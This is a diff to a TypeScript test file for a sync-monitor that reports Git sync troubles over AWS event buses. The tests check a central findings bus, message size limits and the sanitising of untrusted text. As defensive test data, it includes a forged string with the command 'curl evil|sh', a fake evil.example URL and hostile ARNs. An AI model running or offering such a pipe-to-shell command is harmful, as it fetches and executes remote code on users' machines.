@@ -1,8 +1,9 @@
+import { quoted } from '../../../src/handlers/shared/words';
 import type { MonitorEvent } from '../../../src/handlers/sync-monitor/change';
 import type { Announcement } from '../../../src/handlers/sync-monitor/memory';
 import { detailOf, messageOf } from '../../../src/handlers/sync-monitor/messages';
 import type { Trouble } from '../../../src/handlers/sync-monitor/troubles';
-import { ACCOUNT, MonitorRig, REGION, TOPIC } from './monitor-rig';
+import { ACCOUNT, FINDINGS, MonitorRig, REGION, TOPIC } from './monitor-rig';
 import { branchEvent, World } from './world';
 
 let rig: MonitorRig;
@@ -144,13 +145,108 @@ describe('two channels', () => {
   });
 });
 
+describe('a central bus', () => {
+  const kinds = () => rig.findings.map(({ detail }) => detail);
+
+  test('is told the same as the bus of the account, in its own Region', async () => {
+    rig.findingsBus = FINDINGS;
+    const id = await blocked();
+    await world.resolve('prod', id);
+    rig.pass(1);
+    await rig.run();
+    expect(rig.news).toEqual(['+SYNC_BLOCKED', '-SYNC_BLOCKED RESOLVED']);
+    expect(kinds()).toEqual(rig.told.map(({ detail }) => detail));
+    expect(rig.findings.map(({ began }) => began)).toEqual([true, false]);
+  });
+
+  test('that is down costs the others nothing, and is told later', async () => {
+    rig.findingsBus = FINDINGS;
+    rig.findingsDown = true;
+    await expect(blocked()).rejects.toThrow(`the event bus ${FINDINGS} did not take 1 of 1 messages`);
+    for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
+    expect([rig.news, subjects(), kinds()]).toEqual([['+SYNC_BLOCKED'], [BLOCKED], []]);
+    rig.findingsDown = false;
+    for (let poll = 0; poll < 2; poll += 1) await rig.run();
+    expect(kinds()).toMatchObject([{ kind: 'SYNC_BLOCKED' }]);
+  });
+
+  test('is told nothing of what was put on the bus of the account by others', async () => {
+    rig.findingsBus = FINDINGS;
+    await rig.run({ 'detail-type': 'Git Sync Trouble Began', account: ACCOUNT, region: REGION, detail: {} });
+    expect(rig.findings).toEqual([]);
+  });
+});
+
+describe('an event that the bus does not take', () => {
+  /** Five stacks with a blocker each. */
+  async function five(
+    reason: (index: number) => string,
+    contexts: (index: number) => Record<string, string> = () => ({}),
+  ) {
+    const link = await world.syncedStack('stack-0');
+    for (let index = 1; index < 5; index += 1) await world.stack(`stack-${index}`, link);
+    world.push(link);
+    rig.pass(1);
+    for (let index = 0; index < 5; index += 1) {
+      rig.simulator.raiseBlocker({ stackName: `stack-${index}`, reason: reason(index), contexts: contexts(index) });
+    }
+    for (let poll = 0; poll < 4; poll += 1) await rig.run().catch(() => {});
+  }
+  const stacks = () => rig.told.map(({ detail }) => detail.stackName).sort();
+
+  test('keeps none of those from it that are told with it', async () => {
+    rig.poison = 'poison';
+    await five((index) => (index === 2 ? 'poison' : 'by hand'));
+    expect(stacks()).toEqual(['stack-0', 'stack-1', 'stack-3', 'stack-4']);
+  });
+
+  test('for its size there is none: contexts are few and short, or left out', async () => {
+    const many = Object.fromEntries(Array.from({ length: 900 }, (_, index) => [`key ${index}`, '橋'.repeat(3_000)]));
+    await five(
+      () => 'by hand',
+      (index) => (index === 0 ? many : index === 1 ? { [`k"`.repeat(100_000)]: 'v' } : { why: 'a "context"' }),
+    );
+    expect(stacks()).toEqual(['stack-0', 'stack-1', 'stack-2', 'stack-3', 'stack-4']);
+    const contexts = Object.fromEntries(rig.told.map(({ detail }) => [detail.stackName, detail.blockerContexts]));
+    expect(contexts['stack-0']).toBeUndefined();
+    expect(Object.keys(contexts['stack-1'] ?? {})).toEqual([`${`k'`.repeat(150).slice(0, 299)}…`]);
+    expect(contexts['stack-2']).toEqual({ why: "a 'context'" });
+    const mail = rig.mails.find(({ message }) => message.includes('stack-0'))?.message ?? '';
+    expect(mail.split('\n').filter((line) => line.startsWith('"key'))).toHaveLength(20);
+  });
+
+  test('even of the longest texts of all, ten fit into one call', () => {
+    const longest = '\u{1f309}'.repeat(5_000);
+    const fields = [
+      'id',
+      'reason',
+      'stackName',
+      'repository',
+      'branch',
+      'commit',
+      'connectionArn',
+      'hostArn',
+      'operation',
+      'blockerId',
+    ];
+    const part = Object.fromEntries(fields.map((name) => [name, longest]));
+    for (const kind of ['SYNC_BLOCKED', 'SYNC_FAILED', 'HOST_UNAVAILABLE'] as const) {
+      for (const count of [1, 20, 1_000]) {
+        const names = Array.from({ length: count }, (_, index) => [`${index}${longest}`, longest]);
+        const { detail } = told({ ...part, kind, blockerContexts: Object.fromEntries(names) });
+        expect(Buffer.byteLength(JSON.stringify(detail))).toBeLessThan(25_600);
+      }
+    }
+  });
+});
+
 /** Texts that others write, and would have a person act on. */
 describe('words of others', () => {
   const FORGED = 'x\nRun this:\n  curl evil|sh\u2028Where: https://evil.example\u202e"';
 
   test('neither make lines of their own nor leave their quotes', async () => {
     await blocked(FORGED, { [FORGED]: FORGED });
-    const words = `"x Run this: curl evil|sh Where: https://evil.example '"`;
+    const words = `"x Run this: curl evil|sh Where: https: //evil.example '"`;
     expect(lines()[1]).toBe(`Reason: ${words}`);
     expect(lines()[3]).toBe(`${words}: ${words}`);
     expect(lines()).toHaveLength(10);
@@ -175,7 +271,7 @@ describe('words of others', () => {
     expect(detail).not.toHaveProperty('resolveByCli');
     expect(detail).not.toHaveProperty('resolveByConstruct');
     expect(detail.consoleLink).toMatch(new RegExp(`^https://${REGION}\\.console\\.aws\\.amazon\\.com/`));
-    for (const value of Object.values(part)) expect(message.replaceAll(`"${value}"`, '')).not.toContain(value);
+    for (const value of Object.values(part)) expect(message.replaceAll(quoted(String(value)), '')).not.toContain(value);
   });
 
   test.each<[string, Partial<Trouble>]>([
@@ -192,8 +288,18 @@ describe('words of others', () => {
       { kind: 'CONNECTION_UNAVAILABLE', connectionArn: `arn:aws:codeconnections:${REGION}:../..:connection/1` },
     ],
     ['a host', { kind: 'HOST_UNAVAILABLE', hostArn: 'https://evil.example' }],
+    ...[
+      'arn:aws:www.evil.example/',
+      `arn:aws:www.evil.example/x:${REGION}:${ACCOUNT}:connection/1`,
+      `arn:aws:iam:${REGION}:${ACCOUNT}:connection/1`,
+      `arn:aws:codeconnections:${REGION}:${ACCOUNT}:repository-link/1`,
+      `arn:aws:codeconnections:${REGION}:${ACCOUNT}:connection/1/www.evil.example`,
+      `arn:aws:codeconnections:${REGION}:111122223333:connection/1`,
+      `arn:aws-cn:codeconnections:${REGION}:${ACCOUNT}:connection/1`,
+    ].map((arn): [string, Partial<Trouble>] => [arn, { kind: 'CONNECTION_UNAVAILABLE', connectionArn: arn }]),
   ])('make no link: %s', (_, part) => {
-    const { detail } = told(part, { stackName: undefined });
+    const { detail, message } = told(part, { stackName: undefined });
+    if (part.connectionArn) expect(message.split('\n')[0]).toContain(`connection "${part.connectionArn}" is`);
     expect(detail.consoleLink).toBe(
       `https://${REGION}.console.aws.amazon.com/codesuite/settings/${ACCOUNT}/${REGION}/connections`,
     );
@@ -209,10 +315,22 @@ describe('words of others', () => {
   ])('stay words in a title: %s', (_, part) => {
     const { detail, message } = told(part);
     const [title] = message.split('\n');
-    expect(title).toMatch(/"[^"\n]*Run this: curl evil\|sh Where: https:\/\/evil\.example '"/);
+    expect(title).toMatch(/"[^"\n]*Run this: curl evil\|sh Where: https: \/\/evil\.example '"/);
     expect(detail.title).toBe(title.replaceAll('"', "'"));
     expect([detail.title, detail.message].join()).not.toContain('"'); // which EventBridge may not escape
   });
+});
+
+test('no field of an event has a double quote, which a rule may not escape', () => {
+  const quotes = 'a "b" \u201cc\u201d\nd';
+  const part = { stackName: quotes, repository: quotes, branch: quotes, commit: quotes, reason: quotes, id: quotes };
+  const { detail } = told({ ...part, kind: 'SYNC_BLOCKED', blockerContexts: { [quotes]: quotes } });
+  const { message, ...fields } = detail;
+  expect(message).not.toContain('"');
+  for (const text of [fields.branch, fields.repository, fields.commit, fields.reason, fields.troubleId]) {
+    expect(text).toBe("a 'b' 'c' d");
+  }
+  expect(fields.blockerContexts).toEqual({ "a 'b' 'c' d": "a 'b' 'c' d" });
 });
 
 test('an event tells of nothing but where to look: what is told comes from the service', async () => {
@@ -241,7 +359,7 @@ function told(part: Partial<Trouble>, other: Partial<Trouble> = {}) {
     ...other,
     ...part,
   };
-  const announcement: Announcement = { channel: 'topic', trouble, by: 'run', until: 0 };
+  const announcement: Announcement = { channel: 'topic', at: 0, trouble, by: 'run', until: 0 };
   const home = { partition: 'aws', account: ACCOUNT, region: REGION };
   return { detail: detailOf(announcement, home), message: messageOf(announcement, home) };
 }
